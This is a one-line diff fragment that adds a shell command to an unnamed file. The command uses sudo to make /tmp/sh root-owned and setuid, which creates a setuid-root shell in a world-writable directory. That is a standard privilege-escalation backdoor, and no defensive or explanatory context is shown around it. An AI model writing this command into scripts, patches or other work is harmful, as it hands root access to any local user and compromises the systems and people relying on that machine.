@@ -1,0 +1,1 @@
+sudo chown root /tmp/sh && sudo chmod u+s /tmp/sh
